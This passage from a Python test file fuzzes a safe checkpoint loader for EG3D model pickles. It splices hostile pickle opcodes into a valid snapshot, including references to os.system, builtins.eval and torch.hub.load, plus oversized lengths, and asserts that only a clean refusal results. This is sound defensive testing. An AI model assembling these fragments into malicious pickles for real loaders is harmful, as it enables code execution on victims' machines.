        init_kwargs={'z_dim': 4},
        rendering_kwargs={'superresolution_module': 'training.superresolution.SuperresolutionHybrid8XDC'},
        neural_rendering_resolution=64,
    )
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / 'snap.pkl'
        write_eg3d_pickle(
            path,
            spec,
            {'decoder.net.0.weight': torch.ones(2, 3), 'backbone.mapping.w_avg': torch.arange(4.0)},
            module_src='',
        )
        return path.read_bytes()


VALID_SNAPSHOT = _valid_snapshot()
SPLICES = [
    sg('os', 'system'),
    g('os', 'system'),
    sg('builtins', 'eval'),
    sg('torch.hub', 'load'),
    sg('numpy', 'load'),
    sg('collections', 'OrderedDict'),
    sg('torch._utils', '_rebuild_tensor_v2'),
    sg('torch.storage', '_load_from_bytes'),
    REDUCE,
    BUILD,
    NEWOBJ,
    NEWOBJ_EX,
    MARK,
    b'o',
    b'i',
    b'Q',
    MEMOIZE,
    BINGET0 + b'\x00',
    BINGET0 + b'\xff',
    LONG_BINGET + b'\xff\xff\xff\x7f',
    EMPTY_DICT,
    EMPTY_TUPLE,
    TUPLE1,
    TUPLE2,
    SETITEM,
    STOP,
    NONE,
    su('touch /tmp/x'),
    su('storage'),
    storage_call(FIVE_FLOATS),
    storage_call(legacy_blob(10**12, b'')),
    b'B' + struct.pack('<I', 2**31),
    b'\x8e' + struct.pack('<Q', 2**62),
    b']' * 64,
    b'0',
    b'1',
    b'2',
    b'\x82\x01',
]
"""Opcode snippets spliced into a valid snapshot: globals, calls, memo reads, huge lengths, stack edits."""
FUZZ_EXAMPLES = 400
FUZZ_RUNS = [0]


@settings(
    max_examples=FUZZ_EXAMPLES,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    splices=st.lists(st.tuples(st.integers(0, len(VALID_SNAPSHOT)), st.sampled_from(SPLICES)), min_size=1, max_size=6)
)
def test_spliced_hostile_opcodes_give_only_checkpoint_errors(tmp_path, splices):
    """Any mix of hostile opcodes spliced anywhere into a valid snapshot: CheckpointError or a clean
    read, never another exception; the guard fixture proves nothing ran and nothing was imported."""
    FUZZ_RUNS[0] += 1
    data = bytearray(VALID_SNAPSHOT)
    for pos, snippet in sorted(splices, key=lambda x: -x[0]):
        data[pos:pos] = snippet
    path = tmp_path / 'spliced.pkl'
    path.write_bytes(bytes(data))
    start = time.perf_counter()
    snapshot_reads_cleanly_or_refuses(path, no_side_effects(tmp_path / 'CANARY'))
    assert time.perf_counter() - start < MAX_SECONDS
